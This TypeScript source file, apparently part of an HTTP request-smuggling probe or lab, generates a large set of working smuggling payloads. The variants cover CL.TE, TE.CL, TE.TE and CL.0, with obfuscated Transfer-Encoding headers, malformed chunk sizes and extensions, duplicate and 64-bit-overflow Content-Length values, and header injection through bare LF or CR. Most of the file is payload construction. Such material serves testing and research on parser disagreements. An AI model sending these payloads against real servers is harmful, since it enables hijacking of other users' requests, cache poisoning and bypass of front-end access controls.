import { request, type Query, type Shape } from './probe.ts'
import { READ, type Payload, type Writing } from './smuggling.ts'

/**
 * Messages that carry a request: on whose end hops may disagree, and on whose end they may not. What was learned from
 * published work on request smuggling: every obfuscation both ways round, complete by either reading, so that no hop waits
 * for more.
 */

/** The head of a message that hides a request, for an application that reads its body. */
function head({ hop, outer }: Writing, fields: readonly string[], shape: Shape = {}): string {
  return request(hop, outer, READ, { method: 'POST', ...shape, fields })
}

/** Fields as they stand in the name of a payload, with what does not show. */
const shown = (fields: readonly string[]): string =>
  fields
    .map((field) => JSON.stringify(field).replace(/[\x80-\xff]/g, (byte) => `\\x${byte.charCodeAt(0).toString(16)}`))
    .join(' and ')

type Version = NonNullable<Shape['version']>
const inVersion = (version: Version): string => (version === '1.1' ? '' : ` in HTTP/${version}`)

const END = '0\r\n\r\n'
const LAST_CHUNK = `\r\n${END}`

/** By its length all of it is one message; by its coding the message ends before the hidden request. */
function endsEarlierByCoding(fields: readonly string[], version: Version = '1.1'): Payload {
  return {
    name: `Content-Length beside ${shown(fields)}${inVersion(version)}`,
    write(writing) {
      const body = END + writing.hidden()
      return head(writing, [`Content-Length: ${body.length}`, ...fields], { version }) + body
    },
  }
}

/** By its coding all of it is one message; by its length the message ends before the hidden request. */
function endsEarlierByLength(fields: readonly string[], version: Version = '1.1'): Payload {
  return {
    name: `a short Content-Length beside ${shown(fields)}${inVersion(version)}`,
    write(writing) {
      const hidden = writing.hidden(LAST_CHUNK.length)
      const size = `${hidden.length.toString(16)}\r\n`
      const fieldsWithLength = [`Content-Length: ${size.length}`, ...fields]
      return `${head(writing, fieldsWithLength, { version })}${size}${hidden}${LAST_CHUNK}`
    },
  }
}

/** Ways to write a transfer coding that some take for chunked, and others for nothing. */
const CODINGS: readonly (readonly string[])[] = [
  ['Transfer-Encoding: chunked'],
  ['Transfer-Encoding: ChUnKeD'],
  ['Transfer-Encoding:\tchunked'],
  ['Transfer-Encoding: xchunked'],
  ['Transfer-Encoding: "chunked"'],
  ['Transfer-Encoding: \x0bchunked'],
  ['Transfer-Encoding: chunked\xa0'],
  ['Transfer-Encoding:\r\n chunked'],
  ['Transfer-Encoding : chunked'],
  ['X-Lab: one', ' Transfer-Encoding: chunked'],
  ['X-Lab: one\nTransfer-Encoding: chunked'],
  ['X-Lab: one\rTransfer-Encoding: chunked'],
  ['Transfer_Encoding: chunked'],
  ['Connection: Transfer-Encoding', 'Transfer-Encoding: chunked'],
]

const IN_HTTP_1_0 = ['Connection: keep-alive', 'Transfer-Encoding: chunked']

/** Messages that end earlier by their transfer coding than by their length (CL.TE). */
export const ENDING_BY_CODING: readonly Payload[] = [
  ...CODINGS.map((fields) => endsEarlierByCoding(fields)),
  endsEarlierByCoding(IN_HTTP_1_0, '1.0'),
]

/** Messages that end earlier by their length than by their transfer coding (TE.CL). */
export const ENDING_BY_LENGTH: readonly Payload[] = [
  ...CODINGS.map((fields) => endsEarlierByLength(fields)),
  endsEarlierByLength(IN_HTTP_1_0, '1.0'),
]

/** Several codings, in one field or two. */
const SEVERAL: readonly (readonly string[])[] = [
  ['Transfer-Encoding: identity'],
  ['Transfer-Encoding: chunked, identity'],
  ['Transfer-Encoding: identity, chunked'],
  ['Transfer-Encoding: ,chunked'],
  ['Transfer-Encoding: chunked', 'Transfer-Encoding: identity'],
  ['Transfer-Encoding: identity', 'Transfer-Encoding: chunked'],
  ['Transfer-Encoding: chunked', 'Transfer-encoding: x'],
]

/** A chunked body that ends in two places, the hidden request between them. */
function chunks(name: string, write: (writing: Writing) => string): Payload {
  return { name, write: (writing) => head(writing, ['Transfer-Encoding: chunked']) + write(writing) }
}

/** One chunk with a size that some read as 0. */
function oddSize(prefix: string): Payload {
  return chunks(`chunk size ${prefix} and digits`, (writing) => {
    const data = `\r\n${writing.hidden(LAST_CHUNK.length)}`
    return `${prefix}${data.length.toString(16)}\r\n${data}${LAST_CHUNK}`
  })
}

/** A chunk that holds the end of a body and the hidden request: its size, and the data with what comes after. */
function chunkWithEnd(writing: Writing): readonly [size: string, data: string] {
  const data = END + writing.hidden(LAST_CHUNK.length)
  return [data.length.toString(16), data + LAST_CHUNK]
}

const CHUNKS: readonly Payload[] = [
  oddSize('0x'),
  oddSize('0_'),
  // Who ends the line at LF finds the end in a chunk, who takes LF for a part of the extension finds the chunk's size in one.
  chunks('chunk extension with LF before a small chunk', (writing) => {
    const [size, data] = chunkWithEnd(writing)
    return `${size.length};\n${'x'.repeat(size.length)}\r\n${size}\r\n${data}`
  }),
  // The other way round: who ends the line at LF takes the rest of the extension for the chunk's first bytes.
  chunks('chunk extension with LF before a large chunk', (writing) => {
    const data = `pad\r\n${END}${writing.hidden(LAST_CHUNK.length)}`
    const extension = 'x'.repeat(data.length - 'pad'.length - '\r\n'.length)
    return `${data.length.toString(16)};\n${extension}\r\n${data}${LAST_CHUNK}`
  }),
  // Who skips two bytes after a chunk without a look at them, and who skips a line.
  chunks('chunk data with two bytes and a small size in place of CR LF', (writing) => {
    const [size, data] = chunkWithEnd(writing)
    return `1\r\nZxx${size.length}\r\n${size}\r\n${data}`
  }),
  chunks('chunk data with two bytes and a large size in place of CR LF', (writing) => {
    const [size, data] = chunkWithEnd(writing)
    return `1\r\nZxx${size}\r\n${data}`
  }),
  // Who skips two bytes where there is but LF misses the first digit of the next size.
  chunks('chunk data with LF in place of CR LF', (writing) => {
    // The size's last digit must be 0, whatever stands in the hidden request.
    const least = `\r\n${writing.hidden(10_000)}`.length
    const length = Math.ceil(least / 16) * 16
    const rest = 'x'.repeat(length - `\r\n${writing.hidden(10)}`.length)
    const data = `\r\n${writing.hidden(rest.length + LAST_CHUNK.length)}${rest}`
    return `1\r\nZ\n${data.length.toString(16)}\r\n${data}${LAST_CHUNK}`
  }),
  chunks('request in place of trailers', (writing) => `0\r\n${writing.hidden()}`),
]

/** Messages whose transfer codings, or chunks, can be read in two ways (TE.TE). */
export const CODED: readonly Payload[] = [
  ...SEVERAL.flatMap((fields) => [endsEarlierByCoding(fields), endsEarlierByLength(fields)]),
  ...CHUNKS,
]

/** A message whose body, all of it, is the hidden request, for whoever sees its length. */
function counted(
  name: string,
  fields: (length: number) => readonly string[],
  { query = READ, ...shape }: Shape & { readonly query?: Query } = {},
): Payload {
  return {
    name,
    ...(shape.method === undefined ? {} : { method: shape.method }),
    write(writing) {
      const body = writing.hidden()
      const { hop, outer } = writing
      return request(hop, outer, query, { method: 'POST', ...shape, fields: fields(body.length) }) + body
    },
  }
}

const plain = (length: number): readonly string[] => [`Content-Length: ${length}`]

/** The probe answers without a look at the body, and without one of its own. */
export const UNREAD: Query = { do: 'respond' }

/** Messages whose length may be missed, or their body left unread (CL.0). */
export const COUNTED: readonly Payload[] = [
  counted('a body that the application does not read', plain, { query: UNREAD }),
  counted('a body of GET', plain, { method: 'GET', query: UNREAD }),
  counted('a body of HEAD', plain, { method: 'HEAD', query: UNREAD }),
  counted('a body of OPTIONS', plain, { method: 'OPTIONS', query: UNREAD }),
  counted('a body for a static file', plain, { path: 'static/16k.bin', query: UNREAD }),
  counted('a body in HTTP/1.0', (length) => ['Connection: keep-alive', ...plain(length)], {
    version: '1.0',
    query: UNREAD,
  }),
  counted('"Expect: 100-continue"', (length) => ['Expect: 100-continue', ...plain(length)], { query: UNREAD }),
  counted('"Upgrade: websocket"', (length) => ['Connection: Upgrade', 'Upgrade: websocket', ...plain(length)], {
    query: UNREAD,
  }),
  counted('"Connection: Content-Length"', (length) => ['Connection: Content-Length', ...plain(length)]),
  counted('"Content-Length: +N"', (length) => [`Content-Length: +${length}`]),
  counted('"Content-Length: N, N"', (length) => [`Content-Length: ${length}, ${length}`]),
  counted('"Content-Length: 0" before the right one', (length) => ['Content-Length: 0', ...plain(length)]),
  counted('"Content-Length: 0" after the right one', (length) => [...plain(length), 'Content-Length: 0']),
  counted('"Content-Length : N"', (length) => [`Content-Length : ${length}`]),
  counted('"Content-Length:\\r\\n N"', (length) => [`Content-Length:\r\n ${length}`]),
  counted('"X-Lab: one\\nContent-Length: N"', (length) => [`X-Lab: one\nContent-Length: ${length}`]),
  counted('"Content-Length: N" beyond 64 bits', (length) => [`Content-Length: ${2n ** 64n + BigInt(length)}`]),
  {
    name: 'a body for an absolute target',
    write(writing) {
      const body = writing.hidden()
      return head(writing, plain(body.length)).replace(' /', ` ${writing.hop.url.origin}/`) + body
    },
  },
]

/** Messages that are complete and beyond doubt, for another request to come behind. */
export const CLEAR: Readonly<Record<string, (writing: Writing) => string>> = {
  'a GET': ({ hop, outer }) => request(hop, outer, UNREAD),
  'a HEAD': ({ hop, outer }) => request(hop, outer, UNREAD, { method: 'HEAD' }),
  'a POST with a length': (writing) => head(writing, ['Content-Length: 5']) + 'hello',
  'a POST of a request, with a length': (writing) => {
    const body = writing.hidden()
    return head(writing, plain(body.length)) + body
  },
  'a PUT of a request, with a length': (writing) => {
    const body = writing.hidden()
    return head(writing, plain(body.length), { method: 'PUT' }) + body
  },
  'a POST with a coding': (writing) => `${head(writing, ['Transfer-Encoding: chunked'])}5\r\nhello\r\n${END}`,
  'a POST of a request, with a coding': (writing) => {
    const body = writing.hidden()
    return `${head(writing, ['Transfer-Encoding: chunked'])}${body.length.toString(16)}\r\n${body}\r\n${END}`
  },
  'a POST with a coding and a trailer': (writing) =>
    `${head(writing, ['Transfer-Encoding: chunked'])}5\r\nhello\r\n0\r\nX-Lab: one\r\n\r\n`,
}
